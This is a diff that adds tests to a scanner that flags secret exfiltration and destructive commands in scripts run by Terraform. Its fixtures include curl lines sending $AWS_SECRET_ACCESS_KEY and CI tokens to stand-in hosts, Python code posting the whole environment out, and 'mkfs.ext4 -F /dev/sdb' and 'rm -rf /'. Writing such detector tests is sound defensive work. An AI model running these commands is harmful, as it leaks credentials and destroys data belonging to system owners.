@@ -53,6 +53,25 @@ resource "null_resource" "setup" {
     expect(others).toEqual([]);
   });
 
+  it("finds the line of a script, and names it where Terraform runs the script", () => {
+    const script =
+      '#!/bin/sh\nset -e\nsend() {\n  curl -d "$AWS_SECRET_ACCESS_KEY" https://a.example\n}\nsend\n';
+    const findings = (files: Record<string, string>) =>
+      scanTexts(files).findings.filter(({ ruleId }) => ruleId === "runs-code-exfiltration");
+    const message = "Sends `$AWS_SECRET_ACCESS_KEY` to `https://a.example`";
+    expect(findings({ "bin/run.sh": script })).toMatchObject([
+      { file: "bin/run.sh", startLine: 4, message: `${message}.` },
+    ]);
+    const called = { "main.tf": local("sh ./bin/run.sh"), "bin/run.sh": script };
+    expect(findings(called)).toMatchObject([
+      { file: "main.tf", startLine: 2, message: `${message} in line 4 of \`bin/run.sh\`.` },
+    ]);
+    const python = "import os, requests\n\nrequests.post('https://a.example', data=os.environ)\n";
+    expect(findings({ "run.py": `#!/usr/bin/env python3\n${python}` })).toMatchObject([
+      { file: "run.py", startLine: 4 },
+    ]);
+  });
+
   it("has a digest that covers the scripts, and nothing else that changes", () => {
     const files = (script: string, name = "x") => ({
       "main.tf": local("sh run.sh").replace('"x"', `"${name}"`),
@@ -350,5 +369,68 @@ resource "aws_s3_object" "x" {
   ])("is %s: to %s from %s", (severity, bucket, path) => {
     const [item] = items(upload(bucket, path));
     expect(item?.severity ?? "none").toBe(severity);
+  });
+});
+
+describe("a script that a person starts", () => {
+  const dangers = (path: string, text: string) =>
+    scanTexts({ [path]: text })
+      .findings.map(({ ruleId }) => ruleId)
+      .filter((id) => id.startsWith("runs-code-"));
+
+  it.each([
+    [
+      "hands its environment on",
+      "a.py",
+      "import os, subprocess, requests\nsubprocess.run(['b'], env=dict(os.environ, C='d'))\nrequests.get('https://e.example')\n",
+    ],
+    [
+      "names an address in a comment",
+      "a.py",
+      "import os, urllib\n# https://e.example\nurllib.request.urlopen(f'https://{os.environ[\"HOST\"]}')\n",
+    ],
+    [
+      "talks to a program of the machine",
+      "a.py",
+      "import os, socket\nsocket.socket(socket.AF_UNIX)\nprint(os.environ.copy())\n",
+    ],
+    ["names its folder", "a.sh", 'curl -o "$PWD/b" https://e.example/b\n'],
+    [
+      "signs in where the token belongs",
+      "a.sh",
+      'curl -H "Authorization: $CIRCLE_CI_TOKEN" https://circleci.com/api\n',
+    ],
+    ["shreds a file of its own", "a.sh", 'shred -u "$HOME/.step/password"\n'],
+    ["formats an image", "a.sh", "mkfs.ext4 build/disk.img\n"],
+    ["tries things out", "a.bats", "#!/usr/bin/env bats\nrm -rf /\n"],
+  ])("is no danger if it %s", (_, path, text) => {
+    const start = path.endsWith(".py") ? "#!/usr/bin/env python3\n" : "";
+    expect(dangers(path, start + text).filter((id) => !/plain|local/.test(id))).toEqual([]);
+  });
+
+  it.each([
+    [
+      "sends its environment",
+      "a.py",
+      "import os, requests\nenv = dict(os.environ)\nrequests.post('https://e.example', json=env)\n",
+      "exfiltration",
+    ],
+    [
+      "sends a cloud's key to a host with its name",
+      "a.sh",
+      'curl -d "$AWS_SECRET_ACCESS_KEY" https://aws.example\n',
+      "exfiltration",
+    ],
+    [
+      "sends a token elsewhere",
+      "a.sh",
+      'curl -d "$CIRCLE_CI_TOKEN" https://e.example\n',
+      "exfiltration",
+    ],
+    ["formats a disk", "a.sh", "mkfs.ext4 -F /dev/sdb\n", "destructive"],
+    ["formats a disk that it is given", "a.sh", 'mkfs.ext4 "$DATA_DISK"\n', "destructive"],
+  ])("is a danger if it %s", (_, path, text, kind) => {
+    const start = path.endsWith(".py") ? "#!/usr/bin/env python3\n" : "";
+    expect(dangers(path, start + text)).toContain(`runs-code-${kind}`);
   });
 });
